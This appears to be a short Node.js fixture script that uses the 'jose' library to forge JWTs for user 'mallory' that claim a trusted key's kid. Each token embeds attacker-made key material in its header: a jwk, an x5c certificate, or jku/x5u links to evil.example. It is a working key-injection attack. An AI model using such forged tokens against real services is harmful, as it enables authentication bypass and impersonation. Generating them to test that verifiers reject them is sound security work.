// Tokens with their key in the header, and the kid of a trusted key.
import { SignJWT, exportJWK, exportPKCS8, generateKeyPair } from 'jose';
import { execFileSync } from 'node:child_process';
import { writeFileSync } from 'node:fs';

const { publicKey, privateKey } = await generateKeyPair('RS256', { extractable: true });
writeFileSync('attacker.pem', await exportPKCS8(privateKey));
const certificate = execFileSync('openssl', ['req', '-x509', '-new', '-key', 'attacker.pem', '-subj', '/CN=jose.example', '-days', '1', '-outform', 'DER']);
for (const member of [
  { jwk: { ...await exportJWK(publicKey), alg: 'RS256' } },
  { x5c: [certificate.toString('base64')] },
  { jku: 'https://evil.example/jwks.json', x5u: 'https://evil.example/cert.pem' },
]) {
  console.log(await new SignJWT({ sub: 'mallory' })
    .setProtectedHeader({ alg: 'RS256', kid: 'jose RS256 jwk', ...member })
    .setIssuer('https://jose.example').setAudience('api').setIssuedAt().setExpirationTime('10m')
    .sign(privateKey));
}
